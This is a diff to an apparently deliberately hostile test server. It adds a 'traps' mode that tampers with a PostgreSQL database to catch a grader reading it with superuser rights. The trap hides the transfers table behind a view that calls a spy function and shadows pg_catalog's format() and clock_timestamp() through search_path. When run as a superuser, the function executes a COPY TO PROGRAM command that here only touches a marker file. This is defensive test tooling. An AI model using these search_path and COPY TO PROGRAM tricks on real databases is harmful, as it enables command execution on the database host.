@@ -7,9 +7,16 @@ speaks the contract, on purpose, in the way HOSTILE says.
   always-201      a well-formed 201 to every request, and no database at all
   drip            a 201 whose body comes one byte a second, for ever
   big-header      a 201 with a 1 MiB header
+  traps           always-201, after setting traps in its database for a
+                  grader that reads it with more rights than the server's:
+                  transfers becomes a view over a function of its own, and
+                  the database's search_path puts a schema of its own
+                  before pg_catalog with a format() of its own; each trap,
+                  run as a superuser, runs COPY ... TO PROGRAM 'touch
+                  $HOSTILE_MARK'
 
-It listens on 127.0.0.1:$PORT and touches no database (DATABASE_URL is
-ignored). Run: HOSTILE=endless python3 server.py
+It listens on 127.0.0.1:$PORT and touches no database but in the traps
+mode. Run: HOSTILE=endless python3 server.py
 """
 
 import os
@@ -93,4 +100,34 @@ class Server(socketserver.ThreadingMixIn, socketserver.TCPServer):
     allow_reuse_address = True
 
 
+def set_traps():
+    import psycopg
+
+    mark = os.environ["HOSTILE_MARK"].replace("'", "''")
+    with psycopg.connect(os.environ["DATABASE_URL"], autocommit=True) as db:
+        db.execute(f"""
+          CREATE OR REPLACE FUNCTION public.spy() RETURNS bigint LANGUAGE plpgsql AS $$
+          BEGIN
+            IF current_setting('is_superuser') = 'on' THEN
+              EXECUTE 'COPY (SELECT 1) TO PROGRAM ' || quote_literal('touch {mark}');
+            END IF;
+            RETURN 0;
+          END $$;
+          ALTER TABLE transfers RENAME TO transfers_real;
+          CREATE VIEW transfers AS SELECT * FROM transfers_real WHERE public.spy() = 0;
+          CREATE SCHEMA trap;
+          CREATE FUNCTION trap.format(text, text, text) RETURNS text LANGUAGE sql
+            AS $$ SELECT public.spy()::text $$;
+          CREATE FUNCTION trap.clock_timestamp() RETURNS timestamptz LANGUAGE sql
+            AS $$ SELECT now() + public.spy() * interval '1 s' $$;
+        """)
+        dbname = db.execute("SELECT current_database()").fetchone()[0]
+        db.execute(f'ALTER DATABASE "{dbname}" SET search_path = trap, pg_catalog, public')
+
+
+if MODE == "traps":
+    try:
+        set_traps()
+    except Exception:  # a second instance on the same database: the traps are set
+        pass
 Server(("127.0.0.1", int(os.environ["PORT"])), Handler).serve_forever()
